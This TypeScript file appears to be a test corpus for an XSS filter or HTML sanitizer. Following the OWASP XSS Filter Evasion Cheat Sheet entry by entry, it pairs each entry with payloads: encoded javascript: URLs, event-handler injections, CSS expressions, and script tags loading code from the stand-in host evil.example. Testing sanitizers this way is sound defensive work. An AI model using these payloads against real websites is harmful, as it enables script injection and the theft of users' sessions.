/**
 * One row for each entry of OWASP's "XSS Filter Evasion Cheat Sheet" (OWASP/CheatSheetSeries at 074dfa950e), in its order and under its headings, each with our own attacks in the way that
 * the entry describes. Each would call `alert`, load something, or change the page, in some browser or other, if a filter let it through.
 */
export interface OwaspEntry {
  readonly entry: string;
  readonly attacks: readonly string[];
}

const SCRIPT = 'javascript:alert(1)';
const encoded = (encode: (code: number) => string) => Array.from(SCRIPT, (character) => encode(character.charCodeAt(0))).join('');
const decimal = encoded((code) => `&#${code};`);
const padded = encoded((code) => `&#0000${code}`);
const hexadecimal = encoded((code) => `&#x${code.toString(16)}`);
/** As an image, which old browsers ran, and as a link, which all run. */
const both = (address: string) => [`<IMG SRC="${address}">`, `<a href="${address}">link</a>`];
const link = (address: string) => `<A HREF="${address}">link</A>`;

/** Names of events in the entry "Attacks Using Event Handlers". */
const EVENTS =
  'abort activate afterprint afterupdate beforeactivate beforecopy beforecut beforedeactivate beforeeditfocus beforepaste beforeprint beforeunload beforeupdate begin blur bounce cellchange change click contextmenu controlselect copy cut dataavailable datasetchanged datasetcomplete dblclick deactivate drag dragend dragleave dragenter dragover dragdrop dragstart drop end error errorupdate filterchange finish focus focusin focusout hashchange help input keydown keypress keyup layoutcomplete load losecapture mediacomplete mediaerror message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel move moveend movestart offline online outofsync paste pause popstate progress propertychange readystatechange redo repeat reset resize resizeend resizestart resume reverse rowsenter rowexit rowdelete rowinserted scroll seek select selectionchange selectstart start stop storage syncrestored submit timeerror trackchange undo unload urlflip'.split(
    ' ',
  );

/** The ways to write `<` in HTML and JavaScript, in the entry "Character Escape Sequences". Without a decoder none of them is a tag. */
const LESS_THANS = [
  ...['%3C', '&lt', '&lt;', '&LT', '&LT;', '\\x3c', '\\x3C', '\\u003c', '\\u003C'],
  ...['', '0', '00', '000', '0000', '00000'].flatMap((zeros) =>
    ['&#', '&#x', '&#X'].flatMap((start) =>
      (start === '&#' ? ['60'] : ['3c', '3C']).flatMap((code) => ['', ';'].map((end) => `${start}${zeros}${code}${end}`)),
    ),
  ),
];

export const OWASP: readonly OwaspEntry[] = [
  { entry: 'Basic XSS Test Without Filter Evasion', attacks: ['<SCRIPT SRC=https://evil.example/x.js></SCRIPT>'] },
  {
    entry: 'XSS Locator (Polyglot)',
    attacks: [`javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"\`/+/onclick=1/+/[*/[]/+alert(1);//'>`],
  },
  { entry: 'Malformed A Tags', attacks: ['\\<a onmouseover="alert(1)"\\>link\\</a\\>', '<a onmouseover=alert(1)>link</a>'] },
  { entry: 'Malformed IMG Tags', attacks: ['<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>'] },
  {
    entry: 'fromCharCode',
    attacks: ['<IMG SRC=javascript:alert(String.fromCharCode(49))>', '<a href=javascript:alert(String.fromCharCode(49))>x</a>'],
  },
  {
    entry: 'Default SRC Tag to Get Past Filters that Check SRC Domain',
    attacks: ['<IMG SRC=# onmouseover="alert(1)">', '<b src=# onblur=alert(1)>x</b>'],
  },
  { entry: 'Default SRC Tag by Leaving it Empty', attacks: ['<IMG SRC= onmouseover="alert(1)">'] },
  { entry: 'Default SRC Tag by Leaving it out Entirely', attacks: ['<IMG onmouseover="alert(1)">'] },
  { entry: 'On Error Alert', attacks: ['<IMG SRC=/ onerror="alert(String.fromCharCode(49))"></img>'] },
  { entry: 'IMG onerror and JavaScript Alert Encode', attacks: [`<img src=x onerror="${padded}">`] },
  { entry: 'Decimal HTML Character References', attacks: [`<IMG SRC=${decimal}>`, ...both(decimal)] },
  { entry: 'Decimal HTML Character References Without Trailing Semicolons', attacks: [`<IMG SRC=${padded}>`, ...both(padded)] },
  {
    entry: 'Hexadecimal HTML Character References Without Trailing Semicolons',
    attacks: [`<a href=${hexadecimal}>x</a>`, ...both(hexadecimal)],
  },
  { entry: 'Embedded Tab', attacks: both('jav\tascript:alert(1);') },
  { entry: 'Embedded Encoded Tab', attacks: [...both('jav&#x09;ascript:alert(1);'), ...both('jav&Tab;ascript&colon;alert(1)')] },
  { entry: 'Embedded Newline to Break Up XSS with Examples', attacks: both('jav&#x0A;ascript:alert(1);') },
  { entry: 'Example 1: Break Up XSS Attack with Embedded Carriage Return', attacks: both('jav&#x0D;ascript:alert(1);') },
  { entry: 'Example 2: Break Up JavaScript Directive with Null', attacks: both('java\0script:alert(1)') },
  {
    entry: 'Example 3: Spaces and Meta Chars Before the JavaScript in Images for XSS',
    attacks: [' &#14;  ', ...Array.from({ length: 31 }, (_, code) => String.fromCharCode(code + 1))].flatMap((start) =>
      both(`${start}${SCRIPT}`),
    ),
  },
  {
    entry: 'Example 4: Non-alpha-non-digit XSS',
    attacks: [
      '<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>',
      '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>',
      '<SCRIPT/SRC="http://evil.example/xss.js"></SCRIPT>',
    ],
  },
  { entry: 'Extraneous Open Brackets', attacks: ['<<SCRIPT>alert(1);//\\<</SCRIPT>'] },
  { entry: 'No Closing Script Tags', attacks: ['<SCRIPT SRC=http://evil.example/xss.js?< B >'] },
  { entry: 'Protocol Resolution in Script Tags', attacks: ['<SCRIPT SRC=//evil.example/.j>'] },
  {
    entry: 'Half Open HTML/JavaScript XSS Vector',
    attacks: ['<IMG SRC="`<javascript:alert>`(1)"', `<IMG SRC="${SCRIPT}"`, '<img src=x onerror=alert(1)//'],
  },
  { entry: 'Double Open Angle Brackets', attacks: ['<iframe src=http://evil.example/scriptlet.html <'] },
  { entry: 'Escaping JavaScript Escapes', attacks: ['\\";alert(1);//', '</script><script>alert(1);</script>'] },
  { entry: 'End Title Tag', attacks: ['</TITLE><SCRIPT>alert(1);</SCRIPT>'] },
  { entry: 'INPUT Image', attacks: [`<INPUT TYPE="IMAGE" SRC="${SCRIPT};">`] },
  { entry: 'BODY Image', attacks: [`<BODY BACKGROUND="${SCRIPT}">`] },
  { entry: 'IMG Dynsrc', attacks: [`<IMG DYNSRC="${SCRIPT}">`] },
  { entry: 'IMG Lowsrc', attacks: [`<IMG LOWSRC="${SCRIPT}">`] },
  { entry: 'List-style-image', attacks: [`<STYLE>li {list-style-image: url("${SCRIPT}");}</STYLE><UL><LI>x</br>`] },
  { entry: 'VBscript in an Image', attacks: [`<IMG SRC='vbscript:msgbox("1")'>`, link('vbscript:msgbox(1)')] },
  { entry: 'Livescript (older versions of Netscape only)', attacks: both('livescript:[code]') },
  { entry: 'SVG Object Tag', attacks: ['<svg/onload=alert(1)>'] },
  { entry: 'ECMAScript 6', attacks: ['Set.constructor`alert\\x281\\x29', '<script>Set.constructor`alert\\x281\\x29```</script>'] },
  { entry: 'BODY Tag', attacks: ['<BODY ONLOAD=alert(1)>', '<BODY ONLOAD =alert(1)>'] },
  {
    entry: 'Attacks Using Event Handlers',
    attacks: EVENTS.map((event) => `<b on${event}=alert(1) FSCommand=alert(1) seekSegmentTime=alert(1)>x</b>`),
  },
  { entry: 'BGSOUND', attacks: [`<BGSOUND SRC="${SCRIPT};">`] },
  { entry: '& JavaScript includes', attacks: ['<BR SIZE="&{alert(1)}">'] },
  { entry: 'STYLE sheet', attacks: [`<LINK REL="stylesheet" HREF="${SCRIPT};">`] },
  { entry: 'Remote style sheet', attacks: ['<LINK REL="stylesheet" HREF="http://evil.example/xss.css">'] },
  {
    entry: 'Remote style sheet part 2',
    attacks: [`<STYLE>@import'http://evil.example/xss.css';</STYLE>`, `<STYLE>@import'http://evil.example/xss.css';`],
  },
  { entry: 'Remote style sheet part 3', attacks: ['<META HTTP-EQUIV="Link" Content="<http://evil.example/xss.css>; REL=stylesheet">'] },
  { entry: 'Remote style sheet part 4', attacks: ['<STYLE>BODY{-moz-binding:url("http://evil.example/xssmoz.xml#xss")}</STYLE>'] },
  { entry: 'STYLE Tags that Breaks Up JavaScript for XSS', attacks: [`<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>`] },
  {
    entry: 'STYLE Attribute that Breaks Up an Expression',
    attacks: ['<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">', '<p style="xss:expr/**/ession(alert(1))">x</p>'],
  },
  { entry: 'IMG STYLE with Expressions', attacks: [`exp/*<A STYLE='no\\xss:noxss("*//*");\nxss:ex/*XSS*//*/*/pression(alert(1))'>`] },
  { entry: 'STYLE Tag (Older versions of Netscape only)', attacks: ['<STYLE TYPE="text/javascript">alert(1);</STYLE>'] },
  { entry: 'STYLE Tag using Background-image', attacks: [`<STYLE>.XSS{background-image:url("${SCRIPT}");}</STYLE><A CLASS=XSS></A>`] },
  {
    entry: 'STYLE Tag using Background',
    attacks: [
      `<STYLE type="text/css">BODY{background:url("${SCRIPT}")}</STYLE>`,
      '<STYLE type="text/css">BODY{background:url("<javascript:alert>(1)")}</STYLE>',
    ],
  },
  { entry: 'Anonymous HTML with STYLE Attribute', attacks: ['<XSS STYLE="xss:expression(alert(1))">'] },
  { entry: 'Local htc File', attacks: ['<XSS STYLE="behavior: url(xss.htc);">'] },
  { entry: 'US-ASCII Encoding', attacks: ['\u00bcscript\u00bealert(1)\u00bc/script\u00be'] },
  { entry: 'META', attacks: [`<META HTTP-EQUIV="refresh" CONTENT="0;url=${SCRIPT};">`] },
  {
    entry: 'META using Data',
    attacks: ['<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">'],
  },
  { entry: 'META with Additional URL Parameter', attacks: [`<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=${SCRIPT};">`] },
  { entry: 'IFRAME', attacks: [`<IFRAME SRC="${SCRIPT};"></IFRAME>`] },
  { entry: 'IFRAME Event Based', attacks: ['<IFRAME SRC=# onmouseover="alert(1)"></IFRAME>'] },
  { entry: 'FRAME', attacks: [`<FRAMESET><FRAME SRC="${SCRIPT};"></FRAMESET>`] },
  { entry: 'TABLE', attacks: [`<TABLE BACKGROUND="${SCRIPT}">`] },
  { entry: 'TD', attacks: [`<TABLE><TD BACKGROUND="${SCRIPT}">`] },
  { entry: 'DIV Background-image', attacks: [`<DIV STYLE="background-image: url(${SCRIPT})">`] },
  {
    entry: 'DIV Background-image with Unicoded XSS Exploit',
    attacks: [
      `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074:alert(1)'\\0029">`,
    ],
  },
  {
    entry: 'DIV Background-image Plus Extra Characters',
    attacks: ['\u0001', '\u00a0', '\u2000', '\u3000', '\ufeff'].map((extra) => `<DIV STYLE="background-image: url(${extra}${SCRIPT})">`),
  },
  { entry: 'DIV Expression', attacks: ['<DIV STYLE="width: expression(alert(1));">', '<DIV STYLE="width:\nexpression(alert(1));">'] },
  { entry: 'Downlevel-Hidden Block', attacks: ['<!--[if gte IE 4]>\n<SCRIPT>alert(1);</SCRIPT>\n<![endif]-->'] },
  { entry: 'BASE Tag', attacks: [`<BASE HREF="${SCRIPT};//">`] },
  { entry: 'OBJECT Tag', attacks: ['<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/scriptlet.html"></OBJECT>'] },
  {
    entry: 'EMBED a Flash Movie That Contains XSS',
    attacks: ['<EMBED SRC="http://evil.example/xss.swf" AllowScriptAccess="always"></EMBED>'],
  },
  {
    entry: 'EMBED SVG Which Contains XSS Vector',
    attacks: [
      '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    ],
  },
  {
    entry: 'Using ActionScript Inside Flash for Obfuscation',
    attacks: ['a="get";\nb="URL(\\"";\nc="javascript:";\nd="alert(1);\\")";\neval(a+b+c+d);'],
  },
  {
    entry: 'XML Data Island with CDATA Obfuscation',
    attacks: [
      '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(1)"></B></I></XML>\n<SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
    ],
  },
  {
    entry: 'Locally hosted XML with embedded JavaScript that is generated using an XML data island',
    attacks: ['<XML SRC="evil.xml" ID=I></XML>\n<SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>'],
  },
  {
    entry: 'HTML+TIME in XML',
    attacks: [
      '<HTML><BODY>\n<?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time">\n<?import namespace="t" implementation="#default#time2">\n<t:set attributeName="innerHTML" to="x<SCRIPT DEFER>alert(1)</SCRIPT>">\n</BODY></HTML>',
    ],
  },
  {
    entry: 'Assuming you can only fit in a few characters and it filters against `.js`',
    attacks: ['<SCRIPT SRC="http://evil.example/xss.jpg"></SCRIPT>'],
  },
  {
    entry: 'SSI (Server Side Includes)',
    attacks: [`<!--#exec cmd="/bin/echo '<SCR'"--><!--#exec cmd="/bin/echo 'IPT SRC=http://evil.example/xss.js></SCRIPT>'"-->`],
  },
  { entry: 'PHP', attacks: [`<? echo('<SCR)';\necho('IPT>alert(1)</SCRIPT>'); ?>`] },
  { entry: 'IMG Embedded Commands', attacks: ['<IMG SRC="http://victim.example/command?delete=everything">'] },
  { entry: 'IMG Embedded Commands part II', attacks: ['<IMG SRC="http://evil.example/a.jpg">'] },
  { entry: 'Cookie Manipulation', attacks: ['<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(1)</SCRIPT>">'] },
  {
    entry: 'UTF-7 Encoding',
    attacks: [
      '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert(1);+ADw-/SCRIPT+AD4-',
    ],
  },
  {
    entry: 'XSS Using HTML Quote Encapsulation',
    attacks: ['a=">"', '=">"', `a=">" ''`, `"a='>'"`, 'a=`>`', `a=">'>"`]
      .map((attributes) => `<SCRIPT ${attributes} SRC="http://evil.example/xss.js"></SCRIPT>`)
      .concat('<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="http://evil.example/xss.js"></SCRIPT>'),
  },
  { entry: 'IP Versus Hostname', attacks: [link('http://192.0.2.7/')] },
  { entry: 'URL Encoding', attacks: [link('http://%65%76%69%6C%2E%65%78%61%6D%70%6C%65')] },
  { entry: 'DWORD Encoding', attacks: [link('http://3221225991/')] },
  { entry: 'Hex Encoding', attacks: [link('http://0xc0.0x0000000.0x2.0x7/')] },
  { entry: 'Octal Encoding', attacks: [link('http://0300.0000.0002.00000007/')] },
  { entry: 'Base64 Encoding', attacks: [`<img onload="eval(atob('YWxlcnQoMSk='))">`] },
  { entry: 'Mixed Encoding', attacks: [link('h \ntt  p://6\t6.000146.0x7.147/'), link('h\ntt\tp://6\t6.000146.0x7.147/')] },
  { entry: 'Protocol Resolution Bypass', attacks: [link('//evil.example/'), link('\\\\evil.example/'), link('/\\evil.example/')] },
  { entry: 'Google "feeling lucky" part 1', attacks: [link('//evil')] },
  { entry: 'Google "feeling lucky" part 2', attacks: [link('http://evil.example@keyword')] },
  { entry: 'Google "feeling lucky" part 3', attacks: [link('http://keyword:evil.example')] },
  { entry: 'Removing CNAMEs', attacks: [link('http://evil.example/'), link('http://www.evil.example./')] },
  { entry: 'JavaScript Link Location', attacks: [link("javascript:document.location='http://evil.example/'")] },
  {
    entry: 'Content Replace as Attack Vector',
    attacks: [link('http://www.evil.example/evil.example/'), ...both('java&#x09;script:alert(1)')],
  },
  {
    entry: 'Assisting XSS with HTTP Parameter Pollution',
    attacks: [
      '<a href="/share?type=1&title=A title&amp;type=1;alert(1)">Share</a>',
      'A title&type=1;alert(1)',
      '<script>\nvar type = 1; alert(1);\n</script>',
    ],
  },
  {
    entry: 'Character Escape Sequences',
    attacks: LESS_THANS.flatMap((lessThan) => [`${lessThan}script>`, `<b>${lessThan}script>alert(1)${lessThan}/script></b>`]),
  },
  // "Methods to Bypass WAF": its entry "Stored XSS" has no attack of its own.
  { entry: 'Reflected XSS in JavaScript', attacks: ['500); alert(1);//'] },
  { entry: 'DOM-based XSS', attacks: ['alert(1)'] },
  {
    entry: 'XSS via request Redirection',
    attacks: ['<javascript:alert(1)>', '<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>'],
  },
  {
    entry: 'WAF ByPass Strings for XSS',
    attacks: [
      '<Img src = x onerror = "javascript: window.onerror = alert; throw 1">',
      '<Video> <source onerror = "javascript: alert (1)">',
      '<Input value = "x" type = text autofocus onfocus=alert(1)>',
      '<applet code="javascript:alert(1);">',
      '<isindex x="javascript:" onmouseover="alert(1)">',
      '"></SCRIPT>”>’><SCRIPT>alert(1)</SCRIPT>',
      '"><img src="x:x" onerror="alert(1)">',
      '"><iframe src="javascript:alert(1)">',
      '<object data="javascript:alert(1)">',
      '<isindex type=image src=1 onerror=alert(1)>',
      '<img src=x:alert(alt) onerror=eval(src) alt=0>',
      `<img  src="x:gif" onerror="window['al\\u0065rt'](1)"></img>`,
      '<iframe/src="data:text/html,<svg onload=alert(1)>">',
      '<meta content="&NewLine; 1 &NewLine;; JAVASCRIPT&colon; alert(1)" http-equiv="refresh"/>',
      "<svg><script xlink:href=data&colon;,window.open('https://evil.example/')></script",
      '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
      '<iframe src=javascript&colon;alert&lpar;1&rpar;>',
      '<form><a href="javascript:\\u0061lert(1)">X',
      `</script><img/*%00/src="x&colon;alert(1)"/%00*/onerror='eval(src)'>`,
      '<style>//*{x:expression(alert(1))}//<style></style>',
      `<img src="/" =_=" title="onerror='alert(1)'">`,
      '<a aa aaa aaaa aaaaa aaaaaa aaaaaaa href=j&#97v&#97script:&#97lert(1)>ClickMe',
      '<script x> alert(1) </script 1=2',
      '<form><button formaction=javascript&colon;alert(1)>x',
      '<input/onmouseover="javaSCRIPT&colon;alert&lpar;1&rpar;"',
      '<iframe src="data:text/html,%3C%73%63%72%69%70%74%3E%61%6C%65%72%74%28%31%29%3C%2F%73%63%72%69%70%74%3E"></iframe>',
      '<OBJECT CLASSID="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><PARAM NAME="DataURL" VALUE="javascript:alert(1)"></OBJECT>',
    ],
  },
  {
    entry: 'Filter Bypass Alert Obfuscation',
    attacks: [
      '(alert)(1)',
      'a=alert,a(1)',
      '[1].find(alert)',
      "top['al'+'ert'](1)",
      'top[/al/.source+/ert/.source](1)',
      'al\\u0065rt(1)',
      "top['al\\145rt'](1)",
      "top['al\\x65rt'](1)",
      'top[8680439..toString(30)](1)',
      'alert?.()',
      ['`$', '{alert``}`'].join(''),
      '(alert())',
    ].flatMap((code) => [code, `<b onclick="${code}">x</b>`, `<a href="javascript:${code}">x</a>`]),
  },
];
